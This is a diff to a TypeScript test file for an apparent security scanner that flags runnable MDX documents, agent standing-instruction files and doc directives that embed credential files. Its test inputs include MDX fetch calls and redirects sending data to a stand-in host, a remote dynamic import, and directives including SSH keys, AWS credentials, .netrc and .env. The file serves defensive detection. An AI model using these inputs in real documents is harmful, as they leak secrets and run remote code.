@@ -4,7 +4,7 @@ import assert from "node:assert/strict";
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
-import { findExecuteLater, runnableDocument, runnableInProject } from "./execute-later.ts";
+import { credentialReference, findExecuteLater, runnableDocument, runnableInProject, standingInstructionFile } from "./execute-later.ts";
 
 const fence = "```";
 
@@ -37,6 +37,8 @@ describe("runnable documents", () => {
       "import Data from 'https://a.example/m.js'\n\n# Page\n",
       "# Page\n\nTotal {fetch('https://a.example/?d=' + 1)}\n",
       '<img src="a.png" onError={() => fetch("x")} />\n',
+      "# Page\n\nGo {window.location.href = 'https://a.example/?d=1'}\n",
+      "import('https://a.example/m.js')\n",
     ];
     for (const text of runnable) assert.notEqual(runnableDocument(text), undefined, text);
     const shown = [
@@ -45,13 +47,23 @@ describe("runnable documents", () => {
       "Price is $f(x) = \\sqrt{g(x)}$ and {name} is a placeholder.\n",
       `Use \`{fetch(x)}\` in MDX:\n\n${fence}js\nexport const a = () => {f(1)}\n${fence}\n`,
       "Import the data from the sheet, then export it.\n",
+      "import Tabs from '@theme/Tabs';\nimport TabItem from '@theme/TabItem';\n\nexport const sections = ['intro', 'setup'];\n\n# Guide\n",
     ];
     for (const text of shown) assert.equal(runnableDocument(text), undefined, text);
     assert.equal(findExecuteLater("build.coffee.md")?.pattern.includes("litcoffee"), true);
     assert.equal(findExecuteLater("testdata/script/exec.txt")?.pattern.includes("testdata"), true);
     assert.equal(findExecuteLater("testdata/input.txt"), undefined, "a Go fixture is data");
-    for (const agentFile of ["SOUL.md", "MEMORY.md", "memory/2026-12-04.md", "HEARTBEAT.md", "docs/JULES.md"]) assert.notEqual(findExecuteLater(agentFile), undefined, agentFile);
-    assert.equal(findExecuteLater("docs/tools.md"), undefined, "a personal agent's files are at the workspace's top");
+    assert.notEqual(findExecuteLater("docs/JULES.md"), undefined);
+    for (const agentFile of ["SOUL.md", "Memory.MD", "memory/2026-12-04.md", "./HEARTBEAT.md", "skills/sync/SKILL.md"]) assert.notEqual(standingInstructionFile(agentFile), undefined, agentFile);
+    assert.equal(standingInstructionFile("docs/tools.md"), undefined, "a personal agent's files are at the workspace's top");
+    assert.equal(findExecuteLater("MEMORY.md"), undefined, "the owner keeps them by hand: asked about only from an untrusted context");
+  });
+
+  it("finds credentials files a document names where a build reads them, not the word in prose", () => {
+    for (const text of [".. literalinclude:: /home/a/.ssh/id_ed25519\n", "See :download:`creds <../.env>`\n", "![settings](.env)\n", "image::~/.netrc[]\n", "\\input{~/.aws/credentials}\n", ".. csv-table:: T\n   :file: ../.env\n"]) {
+      assert.notEqual(credentialReference(text), undefined, text);
+    }
+    for (const text of ["Copy .env.example to .env and fill in your credentials.\n", "![logo](img/logo.png)\n"]) assert.equal(credentialReference(text), undefined, text);
   });
 
   it("counts code blocks as code only in a code project", (t) => {
@@ -63,5 +75,18 @@ describe("runnable documents", () => {
     fs.writeFileSync(path.join(ws, "Cargo.toml"), "[package]\n");
     for (const text of blocks) assert.match(runnableInProject(ws, text) ?? "", /Cargo\.toml/, text);
     assert.equal(runnableInProject(ws, `${fence}json\n{}\n${fence}\n${fence}text\nout\n${fence}\n`), undefined, "data and output fences are shown");
+  });
+
+  it("finds a project below the workspace's top, from the document's folder up", (t) => {
+    const ws = fs.mkdtempSync(path.join(os.tmpdir(), "warden-runnable-"));
+    t.after(() => fs.rmSync(ws, { recursive: true, force: true }));
+    fs.mkdirSync(path.join(ws, "repos", "q3", "docs"), { recursive: true });
+    fs.mkdirSync(path.join(ws, "notes"));
+    fs.writeFileSync(path.join(ws, "repos", "q3", "Cargo.toml"), "[package]\n");
+    const block = `${fence}rust\nfn main() {}\n${fence}\n`;
+    assert.match(runnableInProject(ws, block, "repos/q3/README.md") ?? "", /repos\/q3\/Cargo\.toml/);
+    assert.match(runnableInProject(ws, block, "repos/q3/docs/guide.md") ?? "", /repos\/q3\/Cargo\.toml/);
+    assert.equal(runnableInProject(ws, block, "notes/diary.md"), undefined, "a project elsewhere in the workspace does not make notes code");
+    assert.notEqual(credentialReference(".. literalinclude:: .env\n"), undefined);
   });
 });
